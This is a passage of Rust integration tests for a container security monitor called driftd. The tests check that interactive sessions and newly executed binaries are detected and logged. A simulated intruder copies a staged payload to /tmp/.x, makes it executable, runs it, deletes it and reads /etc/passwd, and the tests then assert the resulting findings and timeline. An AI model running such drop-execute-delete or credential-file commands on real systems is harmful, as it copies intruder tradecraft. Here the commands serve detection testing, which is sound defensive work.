    let finding = only(&findings, "session.interactive")?;
    assert_eq!(finding["session"], session["id"]);
    // Input there belongs to that session.
    let mut user = node.cri().attach(&debugger)?;
    user.types("/bin/ls /\n")?;
    // The shell itself is a command if driftd knew its container when it began.
    wait_for("what was typed", || {
        let reported = node.answer(&["sessions", "-c", &debugger])?;
        ensure!(reported.len() == 1, "{reported:#?}");
        let id = session["id"].as_str().context("a session has an ID")?;
        let shown = node.answer(&["show", id])?.into_iter().next().context("no session")?;
        Ok(commands(&shown).last().is_some_and(|last| last.starts_with("/bin/ls")).then_some(()))
    })?;
    // The other container of the pod has no session, because no process has entered it.
    assert_eq!(sessions(&container)?, Vec::<Value>::new());
    assert_eq!(node.answer(&["findings", "--container", &container.id])?, Vec::<Value>::new());
    node.cri().remove_pod_sandbox(&sandbox)
}

/// The kubelet's runtime opens no file when a user attaches. It opens them when it is started
/// again.
fn attached(node: &Node) -> anyhow::Result<()> {
    let image = pulled_workbench(node)?;
    let (sandbox, _) = node.pod_of(&image)?;
    let container = node.shell_in_pod(&sandbox, &image)?;
    container.lay_payload("x")?;
    node.crash_containerd()?;
    node.start_containerd()?;
    let mut user = wait_for("containerd to know its containers", || {
        Ok(node.cri().attach(&container.id).ok())
    })?;
    // After a read from a terminal, driftd watches the terminal again within 5 s.
    std::thread::sleep(std::time::Duration::from_secs(6));
    user.types("/bin/ls /\n")?;
    let session = wait_for("the session", || Ok(sessions(&container)?.into_iter().next()))?;
    assert_eq!(
        (&session["entry"], &session["interactive"], &session["client"]),
        (&"attach".into(), &"terminal".into(), &"cri".into())
    );
    assert_eq!(session["process"]["argv"], serde_json::json!(["/bin/sh"]), "{session:#}");
    user.types("/bin/cp /.control/x /tmp/x; /tmp/x\n")?;
    let findings =
        container.expect_findings(&["critical exec.new /tmp/x", "medium session.interactive"])?;
    for finding in &findings {
        assert_eq!(finding["session"], session["id"], "{finding:#}");
    }
    drop(user);
    // A second user soon after is the same session.
    let mut user = node.cri().attach(&container.id)?;
    user.types("/bin/cat /etc/passwd\nexit\n")?;
    let session = closed(&container, 1)?.remove(0);
    let shown = show(node, &session, 4)?;
    let copied = "/bin/cp /.control/x /tmp/x";
    assert_ran(&shown, &["/bin/ls /", copied, "/tmp/x", "/bin/cat /etc/passwd"]);
    node.cri().remove_pod_sandbox(&sandbox)
}

/// Replaces what differs in each run: times, terminals and IDs.
fn reviewed(text: &str) -> String {
    let mut lines = Vec::new();
    for line in text.lines() {
        let mut words: Vec<String> = line.split(' ').map(str::to_owned).collect();
        for word in &mut words {
            let bare = word.trim_matches(|c: char| "[]():,".contains(c)).to_owned();
            let is_hex = bare.len() >= 12 && bare.bytes().all(|byte| byte.is_ascii_hexdigit());
            let is_time = bare.len() >= 8 && bare.bytes().filter(|byte| *byte == b':').count() == 2;
            let is_date =
                bare.len() == 10 && bare.bytes().filter(|byte| *byte == b'-').count() == 2;
            if is_hex {
                *word = word.replace(&bare, "ID");
            } else if is_time {
                *word = word.replace(&bare, "TIME");
            } else if is_date {
                *word = word.replace(&bare, "DATE");
            } else if bare.starts_with("pts/") {
                *word = word.replace(&bare, "pts/N");
            }
        }
        let line = words.join(" ");
        // How long a command ran.
        let line = match line.split_once(" after ") {
            Some((before, after)) if after.ends_with(')') => format!("{before} after A WHILE)"),
            Some((before, _)) => format!("{before} after A WHILE"),
            None => line,
        };
        lines.push(line);
    }
    lines.join("\n")
}

fn timeline(node: &Node) -> anyhow::Result<()> {
    let container = node.container()?;
    container.lay_payload("payload")?;
    let mut user = User::in_container(&container, "intruder")?;
    // An intruder fetches a program, runs it and removes it.
    for command in [
        "/bin/cat /.control/payload > /tmp/.x",
        "/bin/chmod 755 /tmp/.x",
        "/tmp/.x",
        "/bin/rm /tmp/.x",
        "/usr/bin/touch /.control/done-here",
    ] {
        user.types(&format!("{command}\n"))?;
        thread::sleep(Duration::from_millis(300));
    }
    made(&container, "done-here")?;
    user.types("exit 0\n")?;
    user.leaves()?;
    let session = closed(&container, 1)?.remove(0);
    let findings =
        container.expect_findings(&["critical exec.new /tmp/.x", "medium session.interactive"])?;
    let run = only(&findings, "exec.new")?;
    // The finding names the session, and the session the finding.
    assert_eq!(run["session"], session["id"]);
    let session = &sessions(&container)?[0];
    assert_eq!(session["findings"], serde_json::json!([run["id"]]), "{session:#}");

    show(node, session, 6)?;
    let output = node.driftd(&["timeline", &container.id])?;
    let text = String::from_utf8(output.stdout)?;
    // It may have begun before its marks were in place, and other tests flood the node.
    let is_others = |line: &str| line.contains("  gap ") && line.contains(" (any container): ");
    let is_own_late = |line: &str| line.contains("  gap armed_late: ");
    let lines = text.lines().filter(|line| !is_others(line) && !is_own_late(line));
    let text: String = lines.map(|line| format!("{line}\n")).collect();
    let expected = "\
DATE TIME UTC  [ID] session opened: runtime exec, terminal pts/N, uid 0: /bin/sh
DATE TIME UTC    [ID] MEDIUM session.interactive /bin/sh (ID)
DATE TIME UTC    [ID] #1 /bin/sh (exit 0 after A WHILE)
DATE TIME UTC    [ID] #2 /bin/cat /.control/payload (exit 0 after A WHILE)
DATE TIME UTC    [ID] #3 /bin/chmod 755 /tmp/.x (exit 0 after A WHILE)
DATE TIME UTC    [ID] CRITICAL exec.new /tmp/.x (ID)
DATE TIME UTC    [ID] #4 /tmp/.x (exit 0 after A WHILE)
DATE TIME UTC    [ID] #5 /bin/rm /tmp/.x (exit 0 after A WHILE)
DATE TIME UTC    [ID] #6 /usr/bin/touch /.control/done-here (exit 0 after A WHILE)
DATE TIME UTC  [ID] session closed: exit 0 after A WHILE";
    // If a command's arguments are not known, only its program is listed.
    let reported = reviewed(&text);
    let is_like = |(reported, expected): (&str, &str)| {
        let bare = |line: &str| {
            let (command, end) = line.split_once(" (").unwrap_or((line, ""));
            let words: Vec<&str> = command.split(' ').collect();
            let at = words.iter().position(|word| word.starts_with('#'));
            at.map(|at| format!("{} ({end}", words[..words.len().min(at + 2)].join(" ")))
        };
        reported == expected || bare(expected).is_some_and(|bare| reported == bare)
    };
    let mut lines: Vec<&str> = reported.lines().collect();
    // The gate's event and the kernel's record of the shell come in either order.
    let is_record_first = lines.get(1).is_some_and(|line| line.contains("] #1 "))
        && lines.get(2).is_some_and(|line| line.contains(" session.interactive "));
    if is_record_first {
        lines.swap(1, 2);
    }
    let is_same = lines.len() == expected.lines().count()
        && lines.into_iter().zip(expected.lines()).all(is_like);
    assert!(is_same, "{reported}\nexpected\n{expected}\n{text}");
    Ok(())
}
